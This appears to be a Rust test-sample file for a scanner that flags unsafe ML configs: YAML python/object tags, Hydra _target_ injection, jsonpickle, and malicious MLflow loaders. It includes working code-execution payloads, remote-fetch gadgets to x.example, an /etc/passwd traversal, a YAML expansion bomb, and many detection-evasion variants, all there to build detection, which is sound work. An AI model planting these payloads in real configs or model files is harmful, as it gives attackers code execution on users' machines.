//! Samples of configurations: YAML tags, targets of Hydra and its relatives, MLflow's descriptions.

use crate::Samples;
use crate::archive_asm::{deflate, stored_zip};

/// Collects the samples of this family.
pub fn samples(out: &mut Samples) {
    tags(out);
    targets(out);
    computed(out);
    mlflow(out);
}

const APPLY: &str = "lr: 0.1\nhook: !!python/object/apply:os.system ['echo weighbridge']\n";

fn tags(out: &mut Samples) {
    const RUNS: &str = "model-yaml-runs-code";
    const REACHES: &str = "model-yaml-reaches-out";
    const CONSTRUCTS: &str = "model-yaml-constructs";
    const TAGS: &str = "model-yaml-python-tags";
    const FOREIGN: &str = "model-yaml-foreign-gadget";
    const EXPANDS: &str = "model-yaml-expands";
    out.fires(RUNS, "apply.yaml", APPLY);
    out.silent(
        RUNS,
        "tuple.yaml",
        "size: !!python/tuple [1, 2]\nname: !!python/unicode 'x'\nnote: '!!python/object/apply:os.system'\n",
    );
    out.silent(
        RUNS,
        "comment.yaml",
        "# hook: !!python/object/apply:os.system ['id']\nlr: 0.1\n",
    );
    out.silent(
        RUNS,
        "README.md",
        "Never write `!!python/object/apply:os.system ['id']`.\n",
    );
    out.fires(REACHES, "name.yaml", "call: !!python/name:os.system ''\n");
    out.fires(
        REACHES,
        "removes.yaml",
        "x: !!python/object/apply:shutil.rmtree ['/tmp/none']\n",
    );
    out.silent(REACHES, "mkdocs.yml", "site_name: x\nmarkdown_extensions:\n  - pymdownx.emoji:\n      emoji_index: !!python/name:material.extensions.emoji.twemoji\n      emoji_generator: !!python/name:material.extensions.emoji.to_svg\n");
    out.fires(
        CONSTRUCTS,
        "own.yaml",
        "x: !!python/object/apply:my.module.make []\n",
    );
    out.fires(CONSTRUCTS, "module.yaml", "x: !!python/module:mymodule ''\n");
    out.silent(
        CONSTRUCTS,
        "hparams.yaml",
        "args: !!python/object/apply:collections.OrderedDict\n- - [lr, 0.1]\n",
    );
    out.fires(
        TAGS,
        "hparams.yaml",
        "args: !!python/object/apply:collections.OrderedDict\n- - [lr, 0.1]\n",
    );
    out.silent(
        TAGS,
        "plain.yaml",
        "lr: 0.1\nlayers: [1, 2]\nwhen: !!timestamp 2020-01-01\n",
    );
    out.fires(FOREIGN, "java.yaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x.example/\"]]]]\n");
    out.fires(FOREIGN, "ruby.yml", "--- !ruby/object:Gem::Installer\ni: x\n");
    out.silent(
        FOREIGN,
        "gemspec.yml",
        "--- !ruby/object:Gem::Specification\nname: x\nversion: !ruby/object:Gem::Version\n  version: 1.0\n",
    );
    let mut bomb = "a0: &a0 [x, x, x, x]\n".to_owned();
    for at in 1..14 {
        let before = at - 1;
        bomb.push_str(&format!(
            "a{at}: &a{at} [*a{before}, *a{before}, *a{before}, *a{before}]\n"
        ));
    }
    out.fires(EXPANDS, "bomb.yaml", bomb);
    out.silent(
        EXPANDS,
        "anchors.yaml",
        "base: &b {x: 1}\none: {<<: *b}\ntwo: {<<: *b}\n",
    );

    const TRICK: &str = "36-yaml-tags";
    let attacks: &[(&str, &str)] = &[
        (
            "verbatim.yaml",
            "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['echo weighbridge']\n",
        ),
        (
            "handle.yaml",
            "%TAG !m! tag:yaml.org,2002:python/object/\n---\na: !m!apply:os.system ['echo weighbridge']\n",
        ),
        (
            "primary-handle.yml",
            "%TAG ! tag:yaml.org,2002:python/object/apply:\n---\na: !os.system ['echo weighbridge']\n",
        ),
        (
            "redefined-secondary.yaml",
            "%TAG !! tag:yaml.org,2002:python/\n---\na: !!object/apply:subprocess.Popen [[echo, weighbridge]]\n",
        ),
        (
            "percent.yaml",
            "a: !!python%2Fobject%2Fapply:os.system ['echo weighbridge']\n",
        ),
        (
            "key.yaml",
            "? !!python/object/apply:os.system ['echo weighbridge']\n: 1\n",
        ),
        (
            "second-document.yaml",
            "lr: 0.1\n---\n!!python/object/new:os.system ['echo weighbridge']\n",
        ),
        (
            "flow.yml",
            "{lr: 0.1, a: [1, !!python/object/apply:builtins.eval [\"print('weighbridge')\"]]}\n",
        ),
        (
            "config",
            "a: !!python/object/apply:os.system ['echo weighbridge']\n",
        ),
        (
            "hparams.txt",
            "a: !!python/object/apply:os.system ['echo weighbridge']\n",
        ),
        (
            "behind-a-template.yaml",
            "{{ header }}\na: !!python/object/apply:os.system ['echo weighbridge']\n",
        ),
        (
            "through-torch.yaml",
            "a: !!python/object/apply:torch.os.system ['echo weighbridge']\n",
        ),
        (
            "chain.yaml",
            "!!python/object/new:type\nargs: ['z', !!python/tuple [], {'extend': !!python/name:exec }]\nlistitems: \"print('weighbridge')\"\n",
        ),
        (
            "popen.yaml",
            "- !!python/object/apply:subprocess.check_output\n  args: [echo weighbridge]\n  kwds: {shell: true}\n",
        ),
        (
            "config.json",
            "{\"a\": !!python/object/apply:os.system [\"echo weighbridge\"]}\n",
        ),
    ];
    for (name, text) in attacks {
        out.attack(TRICK, name, *text, &[RUNS]);
    }
    let wide: Vec<u8> = format!("\u{feff}{APPLY}")
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    out.attack(TRICK, "utf-16.yaml", wide, &[RUNS]);
    out.attack(
        TRICK,
        "java.yaml",
        "x: !!javax.script.ScriptEngineManager []\n",
        &[FOREIGN],
    );
    out.attack(
        TRICK,
        "name-only.yaml",
        "loss: !!python/name:subprocess.getoutput ''\n",
        &[REACHES],
    );
}

const HYDRA: &str = "model:\n  _target_: os.system\n  command: echo weighbridge\n";

fn targets(out: &mut Samples) {
    const RUNS: &str = "model-target-runs-code";
    const REACHES: &str = "model-target-reaches-out";
    const DOUBTFUL: &str = "model-target-doubtful";
    const UNKNOWN: &str = "model-target-unknown";
    out.fires(RUNS, "config.yaml", HYDRA);
    out.fires(
        RUNS,
        "config.json",
        "{\"model\": {\"_target_\": \"builtins.exec\", \"_args_\": [\"print('weighbridge')\"]}}",
    );
    let honest = "model:\n  _target_: torch.nn.Linear\n  in_features: 3\noptimizer:\n  _target_: torch.optim.AdamW\n  _partial_: true\npath: ${oc.env:HOME}\nsteps: ${model.in_features}\n";
    out.silent(RUNS, "config.yaml", honest);
    out.silent(
        RUNS,
        "semgrep.yaml",
        "rules:\n  - id: x\n    pattern: os.system(...)\n    message: never call os.system\n",
    );
    out.fires(
        REACHES,
        "fetches.yaml",
        "data:\n  _target_: urllib.request.urlretrieve\n  url: http://x.example/a\n",
    );
    out.silent(REACHES, "config.yaml", honest);
    out.fires(DOUBTFUL, "registry.yaml", "hook:\n  type: os.system\n");
    out.fires(
        DOUBTFUL,
        "loads.yaml",
        "net:\n  _target_: torch.load\n  f: weights.pt\n",
    );
    out.silent(
        DOUBTFUL,
        "registry.yaml",
        "hook:\n  type: CheckpointHook\n  interval: 1\nworkflow:\n  function: os.path.join\n",
    );
    out.fires(
        UNKNOWN,
        "own.yaml",
        "model:\n  _target_: mycompany.nets.Net\n  width: 3\n",
    );
    out.silent(UNKNOWN, "config.yaml", honest);

    const TRICK: &str = "36-hydra-targets";
    let attacks: &[(&str, &str)] = &[
        (
            "nested.yaml",
            "a:\n  b:\n    - c: {_target_: subprocess.run, args: [echo, weighbridge]}\n",
        ),
        (
            "interpolated.yaml",
            "m: os\nf: system\nmodel:\n  _target_: ${m}.${f}\n  _args_: [echo weighbridge]\n",
        ),
        (
            "default.yaml",
            "model:\n  _target_: ${oc.env:MODEL_CLASS,os.system}\n  _args_: [echo weighbridge]\n",
        ),
        (
            "merged.yaml",
            "x: &x {_target_: os.system}\nmodel:\n  <<: *x\n  _args_: [echo weighbridge]\n",
        ),
        (
            "get-method.yaml",
            "fn:\n  _target_: hydra.utils.get_method\n  path: os.system\n",
        ),
        (
            "through.yaml",
            "model:\n  _target_: torch.os.system\n  _args_: [echo weighbridge]\n",
        ),
        (
            "lightning.yaml",
            "trainer:\n  callbacks:\n    - class_path: subprocess.Popen\n      init_args: {args: [echo, weighbridge]}\n",
        ),
        (
            "diffusion.yaml",
            "model:\n  target: os.system\n  params: {command: echo weighbridge}\n",
        ),
        (
            "torchtune.yaml",
            "tokenizer:\n  _component_: os.system\n  command: echo weighbridge\n",
        ),
        (
            "quoted.yaml",
            "model: {\"_targ\\x65t_\": 'os.system', command: echo weighbridge}\n",
        ),
        (
            "escaped.json",
            "{\"model\": {\"\\u005ftarget_\": \"os\\u002esystem\", \"command\": \"echo weighbridge\"}}",
        ),
        (
            "jsonpickle.json",
            "{\"py/reduce\": [{\"py/function\": \"os.system\"}, {\"py/tuple\": [\"echo weighbridge\"]}]}",
        ),
        (
            "jsonpickle-repr.json",
            "{\"x\": {\"py/repr\": \"os/os.system('echo weighbridge')\"}}",
        ),
        (
            "logging.yaml",
            "handlers:\n  x:\n    (): os.system\n    command: echo weighbridge\n",
        ),
    ];
    for (name, text) in attacks {
        out.attack(TRICK, name, *text, &[RUNS]);
    }
    let padded = format!(
        "{{\"a\": \"{}\", \"m\": {{\"_target_\": \"os.system\"}}}}",
        " ".repeat(6_000)
    );
    out.attack(TRICK, "far-behind.json", padded, &[RUNS]);
    let nemo = stored_zip(&[("model_config.yaml", HYDRA), ("model_weights.ckpt", "")]);
    out.attack(TRICK, "zip.nemo", nemo, &[RUNS]);
    out.attack(
        TRICK,
        "tar.nemo",
        tar("./model_config.yaml", HYDRA.as_bytes()),
        &[RUNS],
    );
    let packed = gzip(&tar("model_config.yaml", HYDRA.as_bytes()));
    out.attack(TRICK, "tar-gz.nemo", packed, &[RUNS]);
    out.attack(
        TRICK,
        "network.yaml",
        "a:\n  _target_: urllib.request.urlopen\n  url: http://x.example\n",
        &[REACHES],
    );
}

fn tar(name: &str, data: &[u8]) -> Vec<u8> {
    crate::archive_asm::Tar::default().file(name, data).end()
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut out = b"\x1f\x8b\x08\0\0\0\0\0\0\xff".to_vec();
    out.extend(deflate(data));
    out.extend(crc32fast::hash(data).to_le_bytes());
    out.extend(u32::try_from(data.len()).unwrap_or_default().to_le_bytes());
    out
}

fn computed(out: &mut Samples) {
    const COMPUTED: &str = "model-target-computed";
    const EVALUATES: &str = "model-target-evaluates";
    out.fires(
        COMPUTED,
        "environment.yaml",
        "model:\n  _target_: ${oc.env:MODEL_CLASS}\n",
    );
    out.silent(
        COMPUTED,
        "known.yaml",
        "cls: torch.nn.Linear\nmodel:\n  _target_: ${cls}\nlen: ${eval:'2 * 3'}\n",
    );
    let evil = "x: \"${eval:'__import__(\\\"os\\\").system(\\\"echo weighbridge\\\")'}\"\n";
    out.fires(EVALUATES, "eval.yaml", evil);
    out.silent(EVALUATES, "sum.yaml", "x: ${eval:'${a} + 1'}\na: 2\n");
    out.attack("36-hydra-targets", "eval-resolver.yaml", evil, &[EVALUATES]);
}

fn mlflow(out: &mut Samples) {
    const UNKNOWN: &str = "model-mlflow-loader-unknown";
    const RUNS: &str = "model-mlflow-runs-code";
    const OUTSIDE: &str = "model-mlflow-leads-outside";
    let model = |loader: &str, more: &str| {
        format!(
            "artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n      virtualenv: \
             python_env.yaml\n    loader_module: {loader}\n    python_version: 3.12.3\n{more}  sklearn:\n    \
             pickled_model: model.pkl\n    serialization_format: cloudpickle\nmlflow_version: 3.1.0\n"
        )
    };
    let honest = model("mlflow.sklearn", "    model_path: model.pkl\n");
    out.fires(UNKNOWN, "own/MLmodel", model("loader", "    code: code\n"));
    out.fires(
        UNKNOWN,
        "from-code/MLmodel",
        model("mlflow.pyfunc.model", "    model_code_path: model.py\n"),
    );
    for rule in [UNKNOWN, RUNS, OUTSIDE] {
        out.silent(rule, "sklearn/MLmodel", honest.clone());
    }
    out.fires(RUNS, "os/MLmodel", model("os", ""));
    out.fires(
        OUTSIDE,
        "climbs/MLmodel",
        model("mlflow.pyfunc.model", "    data: ../../../etc/passwd\n"),
    );
    const TRICK: &str = "37-mlflow";
    out.attack(TRICK, "tool/MLmodel", model("subprocess", ""), &[RUNS]);
    out.attack(TRICK, "no-module/MLmodel", model("'../evil'", ""), &[RUNS]);
    out.attack(
        TRICK,
        "absolute/MLmodel",
        model("mlflow.pyfunc.model", "    code: /tmp/x\n"),
        &[OUTSIDE],
    );
    out.attack(
        TRICK,
        "address/MLmodel",
        model("mlflow.sklearn", "    model_path: http://x.example/m.pkl\n"),
        &[OUTSIDE],
    );
    out.attack(
        TRICK,
        "tag/MLmodel",
        format!("x: !!python/object/apply:os.system [id]\n{honest}"),
        &["model-yaml-runs-code"],
    );
}
